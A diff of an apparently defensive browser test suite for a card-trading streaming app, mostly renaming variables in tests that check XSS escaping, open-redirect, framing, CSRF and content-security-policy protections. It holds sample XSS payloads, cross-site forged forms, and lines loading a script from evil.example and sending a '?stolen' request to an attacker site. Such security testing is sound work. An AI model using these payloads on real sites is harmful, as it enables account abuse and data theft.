@@ -4,7 +4,7 @@ import assert from "node:assert/strict";
 import { createServer } from "node:http";
 import { signIn } from "./demoServer.mjs";
 import { expect, test, useDemo, useStreamer } from "./fixtures.mjs";
-import { drawAllCards, newcomer, open, person } from "./people.mjs";
+import { drawAllCards, newcomer, open, signInAs } from "./people.mjs";
 
 /** Sets a marker on every page where it runs, with several ways to turn a text into a script. */
 const MARK = "window.hacked=1";
@@ -14,31 +14,31 @@ const SHORT = `<img src=x onerror=${MARK}>`;
 
 const demo = useDemo();
 const nova = useStreamer(demo);
-let evil;
+let attackerSite;
 let ada;
 
 test.beforeAll(async () => {
   ada = await newcomer(nova, "attacked_ada", 3);
-  evil = await startSite();
+  attackerSite = await startSite();
 });
 
 test.afterAll(async () => {
-  evil?.server.close();
+  attackerSite?.server.close();
 });
 
 /** The attacker's site, on another host name than the server. The tests set its pages. */
 async function startSite() {
   const pages = new Map();
-  const server = createServer((request, answer) => {
-    answer.setHeader("content-type", "text/html");
-    answer.end(pages.get(request.url) ?? "");
+  const server = createServer((request, response) => {
+    response.setHeader("content-type", "text/html");
+    response.end(pages.get(request.url) ?? "");
   });
   await new Promise((resolve) => server.listen(0, "127.0.0.1", resolve));
   return { server, pages, url: `http://localhost:${server.address().port}` };
 }
 
 /** A window that records what must not happen: an attacker's script, a dialog, a violation of the content security policy. */
-async function watched(browser, options) {
+async function openWatched(browser, options) {
   const window = await open(browser, { calm: true, ...options });
   const alarms = [];
   window.page.on("dialog", (dialog) => {
@@ -51,7 +51,7 @@ async function watched(browser, options) {
     });
   });
   /** Fails if the current page is compromised. */
-  const isClean = async (where) => {
+  const expectClean = async (where) => {
     const found = await window.page.evaluate(() => ({
       hacked: window.hacked ?? null,
       violated: document.documentElement.dataset.violated ?? null,
@@ -61,36 +61,36 @@ async function watched(browser, options) {
     assert.deepEqual(found, { hacked: null, violated: null, markup: 0, links: [] }, where);
     assert.deepEqual(alarms, [], where);
   };
-  return { ...window, isClean };
+  return { ...window, expectClean };
 }
 
 /** Sends a request that may be refused. */
 async function attempt(token, method, path, body) {
   const headers = { authorization: `Bearer ${token}`, "content-type": "application/json", "idempotency-key": crypto.randomUUID() };
-  const answer = await fetch(demo.url + path, { method, headers, body: JSON.stringify(body) });
-  return { status: answer.status, body: await answer.json().catch(() => null) };
+  const response = await fetch(demo.url + path, { method, headers, body: JSON.stringify(body) });
+  return { status: response.status, body: await response.json().catch(() => null) };
 }
 
 test("user input is shown as text everywhere", async ({ browser }) => {
   // Names come from the provider, and the stand-in takes only letters and digits, as Twitch does.
-  const mallory = await person(demo.url, "mallory");
+  const mallory = await signInAs(demo.url, "mallory");
   await mallory.request("POST", "/api/packs/open", {});
   const accepted = [];
-  const note = async (what, call) => {
-    const { status, body } = await call;
+  const store = async (what, request) => {
+    const { status, body } = await request;
     assert.ok(status < 500, `${what}: ${status} ${JSON.stringify(body)}`);
     if (status < 300) accepted.push(what);
     return body;
   };
   const [theirs, hers] = [await mallory.cards(), await ada.cards()];
-  await note("trade message", attempt(mallory.token, "POST", "/api/trades", {
+  await store("trade message", attempt(mallory.token, "POST", "/api/trades", {
     recipient: ada.id, offeredItems: [theirs[0]._id], requestedItems: [hers[0]._id], offeredPacks: 0, requestedPacks: 0, message: HACK,
   }));
-  const listing = await note("listing note", attempt(mallory.token, "POST", "/api/market/listings", { cardId: theirs[1]._id, note: HACK }));
-  await note("offer message", attempt(ada.token, "POST", `/api/market/listings/${listing._id}/offers`, {
+  const listing = await store("listing note", attempt(mallory.token, "POST", "/api/market/listings", { cardId: theirs[1]._id, note: HACK }));
+  await store("offer message", attempt(ada.token, "POST", `/api/market/listings/${listing._id}/offers`, {
     offeredCards: [hers[1]._id], offeredPacks: 0, message: HACK,
   }));
-  await note("broadcast", attempt(nova.token, "POST", "/api/admin/notifications", { type: SHORT, message: HACK, link: "/dashboard" }));
+  await store("broadcast", attempt(nova.token, "POST", "/api/admin/notifications", { type: SHORT, message: HACK, link: "/dashboard" }));
   const linked = await attempt(nova.token, "POST", "/api/admin/notifications", { type: "news", message: "x", link: `javascript:${MARK}` });
   assert.equal(linked.status, 400, "a link leads to a page of this server");
   for (const link of ["//evil.example/", "https://evil.example/", "/\\evil.example"]) {
@@ -99,26 +99,26 @@ test("user input is shown as text everywhere", async ({ browser }) => {
   }
   // An admin or an import can put it into cards, packs, modifiers, achievements, goals and the brand.
   const definition = await nova.request("GET", `/api/cards/${theirs[0].definitionId}`);
-  await note("card", attempt(nova.token, "PUT", `/api/admin/cards/${definition._id}`, {
+  await store("card", attempt(nova.token, "PUT", `/api/admin/cards/${definition._id}`, {
     name: HACK.slice(0, 60), imageUrl: definition.imageUrl, alt: HACK, flavorText: HACK, artist: SHORT, series: SHORT, tags: ["<svg onload=alert(1)>"],
   }));
   const [pack] = await nova.request("GET", "/api/packs");
-  await note("pack", attempt(nova.token, "POST", "/api/admin/upsert-pack", {
+  await store("pack", attempt(nova.token, "POST", "/api/admin/upsert-pack", {
     packId: "", name: SHORT, description: HACK, cardPool: pack.cardPool, cardsPerPack: 5, modifierChance: 0.05, why: HACK,
   }));
-  await note("modifier", attempt(nova.token, "POST", "/api/modifiers", { name: "<script>x</script>", prefix: "<b onload=x>", description: HACK, enabled: false }));
-  await note("achievement", attempt(nova.token, "POST", "/api/admin/achievements", {
+  await store("modifier", attempt(nova.token, "POST", "/api/modifiers", { name: "<script>x</script>", prefix: "<b onload=x>", description: HACK, enabled: false }));
+  await store("achievement", attempt(nova.token, "POST", "/api/admin/achievements", {
     name: SHORT, description: HACK, category: "packs", kind: "packs-opened", requirement: 1, reward: { packs: 1 },
   }));
-  await note("stream", attempt(nova.token, "POST", "/api/admin/stream/begin", {}));
-  await note("goal", attempt(nova.token, "POST", "/api/admin/goals", { title: SHORT, counts: "subs", target: 5, reward: { packs: 1 } }));
-  await note("brand", attempt(nova.token, "PATCH", "/api/admin/settings", {
+  await store("stream", attempt(nova.token, "POST", "/api/admin/stream/begin", {}));
+  await store("goal", attempt(nova.token, "POST", "/api/admin/goals", { title: SHORT, counts: "subs", target: 5, reward: { packs: 1 } }));
+  await store("brand", attempt(nova.token, "PATCH", "/api/admin/settings", {
     "brand-name": SHORT, "brand-intro": HACK, "early-access-text": HACK,
   }));
   const logo = await attempt(nova.token, "PATCH", "/api/admin/settings", { "brand-logo": `javascript:${MARK}` });
   assert.equal(logo.status, 400, "a logo is a file of this server");
   for (const what of ["trade message", "listing note", "offer message", "broadcast", "card", "brand"]) {
-    assert.ok(accepted.includes(what), `${what} was not stored, so nothing was tried: ${accepted}`);
+    assert.ok(accepted.includes(what), `${what} was not stored, so the test checks nothing: ${accepted}`);
   }
 
   console.log(`stored: ${accepted}`);
@@ -133,17 +133,17 @@ test("user input is shown as text everywhere", async ({ browser }) => {
   };
   const tokens = { visitor: null, collector: ada.token, admin: nova.token };
   for (const [who, addresses] of Object.entries(pages)) {
-    const window = await watched(browser, { token: tokens[who] });
+    const window = await openWatched(browser, { token: tokens[who] });
     for (const address of addresses) {
       await window.page.goto(demo.url + address, { waitUntil: "networkidle" });
       if (address === card || address.startsWith("/collection")) await drawAllCards(window.page).catch(() => {});
-      await window.isClean(`${address} as ${who}`);
+      await window.expectClean(`${address} as ${who}`);
     }
     if (who === "collector") {
       await window.page.goto(`${demo.url}/dashboard`);
       await window.page.getByRole("button", { name: /Your menu/ }).click();
       await window.page.getByText("7*7").first().waitFor();
-      await window.isClean("the notifications");
+      await window.expectClean("the notifications");
     }
     assert.deepEqual(window.faults, [], who);
     await window.close();
@@ -155,51 +155,51 @@ test("user input is shown as text everywhere", async ({ browser }) => {
   }
 });
 
-test("a token in a link signs no user in without asking", async ({ browser }) => {
-  const mallorys = await signIn(demo.url, "mallory");
+test("a token in a link does not sign in without confirmation", async ({ browser }) => {
+  const mallorysToken = await signIn(demo.url, "mallory");
   for (const token of [null, ada.token]) {
-    const { page, close } = await watched(browser, { token });
-    await page.goto(`${demo.url}/login?token=${mallorys}`);
-    // A signed-in user stays signed in as themselves; a visitor is asked.
+    const { page, close } = await openWatched(browser, { token });
+    await page.goto(`${demo.url}/login?token=${mallorysToken}`);
+    // A signed-in user stays signed in; a visitor is asked to confirm.
     if (token === null) await page.getByRole("button", { name: /Continue as mallory\?/i }).waitFor();
     else await page.waitForURL(`${demo.url}/dashboard`);
-    assert.equal(await page.evaluate(() => localStorage.getItem("token")), token, "the token is not used without asking");
+    assert.equal(await page.evaluate(() => localStorage.getItem("token")), token, "the token is not used without confirmation");
     assert.equal(new URL(page.url()).search, "", "the token is removed from the address");
-    assert.equal(await page.evaluate((secret) => document.documentElement.innerHTML.includes(secret), mallorys), false);
+    assert.equal(await page.evaluate((secret) => document.documentElement.innerHTML.includes(secret), mallorysToken), false);
     if (token === null) await page.getByRole("button", { name: "No, that is not me" }).click();
     await page.goto(`${demo.url}/catalogue`);
     await page.goBack();
-    assert.ok(!page.url().includes(mallorys), "the token is not in the history");
-    assert.notEqual(await page.evaluate(() => localStorage.getItem("token")), mallorys);
+    assert.ok(!page.url().includes(mallorysToken), "the token is not in the history");
+    assert.notEqual(await page.evaluate(() => localStorage.getItem("token")), mallorysToken);
     await close();
   }
 });
 
 test("a sign-in does not redirect to another site", async ({ browser }) => {
-  for (const way of ["redirect", "next", "returnTo", "redirect_uri", "login_hint"]) {
-    const { page, context, close } = await watched(browser, {});
-    const left = [];
-    page.on("framenavigated", (frame) => left.push(new URL(frame.url()).origin));
-    await page.goto(`${demo.url}/login?${way}=${encodeURIComponent(`${evil.url}/`)}`);
-    await page.evaluate((place) => sessionStorage.setItem("foilcast.place", `${Date.now()} ${place}`), `/${evil.url.replace("http:/", "")}/`);
+  for (const parameter of ["redirect", "next", "returnTo", "redirect_uri", "login_hint"]) {
+    const { page, context, close } = await openWatched(browser, {});
+    const origins = [];
+    page.on("framenavigated", (frame) => origins.push(new URL(frame.url()).origin));
+    await page.goto(`${demo.url}/login?${parameter}=${encodeURIComponent(`${attackerSite.url}/`)}`);
+    await page.evaluate((place) => sessionStorage.setItem("foilcast.place", `${Date.now()} ${place}`), `/${attackerSite.url.replace("http:/", "")}/`);
     await page.getByRole("link", { name: /Twitch/ }).first().click();
     await page.waitForURL(/demo\/twitch/);
-    assert.ok(left.every((origin) => origin === demo.url || origin === "null"), `${way}: ${left}`);
+    assert.ok(origins.every((origin) => origin === demo.url || origin === "null"), `${parameter}: ${origins}`);
     await context.close().catch(close);
   }
   const sent = `${demo.url}/demo/twitch/oauth2/authorize?client_id=foilcast-demo&response_type=code&login_hint=ada&redirect_uri=`;
-  for (const to of [`${evil.url}/api/auth/twitch/callback`, "https://evil.example/api/auth/twitch/callback", `${demo.url}@evil.example/api/auth/twitch/callback`]) {
-    const answer = await fetch(sent + encodeURIComponent(to), { redirect: "manual" });
-    const location = answer.headers.get("location") ?? "";
+  for (const to of [`${attackerSite.url}/api/auth/twitch/callback`, "https://evil.example/api/auth/twitch/callback", `${demo.url}@evil.example/api/auth/twitch/callback`]) {
+    const response = await fetch(sent + encodeURIComponent(to), { redirect: "manual" });
+    const location = response.headers.get("location") ?? "";
     assert.ok(!location.includes("evil.example"), `the stand-in sends a code to ${location}`);
   }
 });
 
-test("another site shows no page of this one in a frame but the overlay", async ({ browser }) => {
-  const { page } = await watched(browser, { token: ada.token });
+test("another site can frame only the overlay", async ({ browser }) => {
+  const { page } = await openWatched(browser, { token: ada.token });
   const framed = async (path) => {
-    evil.pages.set("/frame", `<iframe id="f" src="${demo.url}${path}" width="900" height="700"></iframe>`);
-    await page.goto(`${evil.url}/frame`, { waitUntil: "load" });
+    attackerSite.pages.set("/frame", `<iframe id="f" src="${demo.url}${path}" width="900" height="700"></iframe>`);
+    await page.goto(`${attackerSite.url}/frame`, { waitUntil: "load" });
     const frame = await (await page.waitForSelector("#f")).contentFrame();
     return frame.url();
   };
@@ -210,14 +210,14 @@ test("another site shows no page of this one in a frame but the overlay", async 
   assert.equal(await framed(path), demo.url + path);
 });
 
-test("another site's page does nothing in a visitor's name", async ({ browser }) => {
-  const { page } = await watched(browser, { token: ada.token });
+test("another site's page cannot act as the visitor", async ({ browser }) => {
+  const { page } = await openWatched(browser, { token: ada.token });
   const before = await ada.request("GET", "/api/users/me");
-  evil.pages.set("/", "<h1>Free cards</h1>");
-  await page.goto(`${evil.url}/`);
-  const got = await page.evaluate(
+  attackerSite.pages.set("/", "<h1>Free cards</h1>");
+  await page.goto(`${attackerSite.url}/`);
+  const results = await page.evaluate(
     async ([url, token]) => {
-      const outcome = (promise) => promise.then((answer) => `read ${answer.type} ${answer.status}`).catch(() => "nothing");
+      const outcome = (promise) => promise.then((response) => `read ${response.type} ${response.status}`).catch(() => "nothing");
       const post = (more) => fetch(`${url}/api/packs/open`, { method: "POST", credentials: "include", body: "{}", ...more });
       const socket = new Promise((resolve) => {
         const ws = new WebSocket(`${url.replace("http", "ws")}/socket.io/?EIO=4&transport=websocket`);
@@ -234,24 +234,24 @@ test("another site's page does nothing in a visitor's name", async ({ browser })
     },
     [demo.url, ada.token],
   );
-  assert.deepEqual(got, { read: "nothing", token: "nothing", plain: "nothing", socket: "nothing" });
+  assert.deepEqual(results, { read: "nothing", token: "nothing", plain: "nothing", socket: "nothing" });
   // Browsers send forms to other sites without asking; the response shows the result.
-  evil.pages.set("/form", `<form method="post" action="${demo.url}/demo/twitch/channel"><input name="what" value="subscribe"><input name="viewer" value="attacked_ada"></form><form id="open" method="post" enctype="text/plain" action="${demo.url}/api/packs/open"><input name='{"a":"' value='"}'></form>`);
+  attackerSite.pages.set("/form", `<form method="post" action="${demo.url}/demo/twitch/channel"><input name="what" value="subscribe"><input name="viewer" value="attacked_ada"></form><form id="open" method="post" enctype="text/plain" action="${demo.url}/api/packs/open"><input name='{"a":"' value='"}'></form>`);
   for (const number of [0, 1]) {
-    await page.goto(`${evil.url}/form`);
-    const [answer] = await Promise.all([
+    await page.goto(`${attackerSite.url}/form`);
+    const [response] = await Promise.all([
       // Wait for the response: an earlier navigation would cancel the form.
       page.waitForNavigation(),
       page.evaluate((number) => document.forms[number].submit(), number),
     ]);
-    assert.equal(answer.status(), 403, `form ${number}`);
+    assert.equal(response.status(), 403, `form ${number}`);
   }
   const now = await ada.request("GET", "/api/users/me");
   assert.deepEqual([now.packs, now.openedPacks], [before.packs, before.openedPacks]);
 });
 
-test("a script that got into a page does not run", async ({ browser }) => {
-  const { page } = await watched(browser, {});
+test("an injected script does not run", async ({ browser }) => {
+  const { page } = await openWatched(browser, {});
   await page.goto(`${demo.url}/login`, { waitUntil: "networkidle" });
   await page.evaluate((mark) => {
     const script = document.createElement("script");
@@ -260,9 +260,9 @@ test("a script that got into a page does not run", async ({ browser }) => {
     const image = document.createElement("div");
     image.innerHTML = `<img src="/nowhere.png" onerror="${mark}"><a id="js" href="javascript:${mark}">x</a>`;
     document.body.append(image);
-    const far = document.createElement("script");
-    far.src = "https://evil.example/x.js";
-    document.body.append(far);
+    const external = document.createElement("script");
+    external.src = "https://evil.example/x.js";
+    document.body.append(external);
     document.querySelector("#js").click();
   }, MARK);
   const violated = () => page.evaluate(() => document.documentElement.dataset.violated ?? "");
@@ -273,6 +273,6 @@ test("a script that got into a page does not run", async ({ browser }) => {
   await expect.poll(() => seen).toMatch(/^script-src/);
   clearInterval(watching);
   assert.equal(await page.evaluate(() => window.hacked ?? null), null);
-  const sent = await page.evaluate(async (url) => fetch(`${url}/?stolen`, { mode: "no-cors" }).then(() => "sent").catch(() => "stopped"), evil.url);
+  const sent = await page.evaluate(async (url) => fetch(`${url}/?stolen`, { mode: "no-cors" }).then(() => "sent").catch(() => "stopped"), attackerSite.url);
   assert.equal(sent, "stopped", "the script cannot send data to another site");
 });
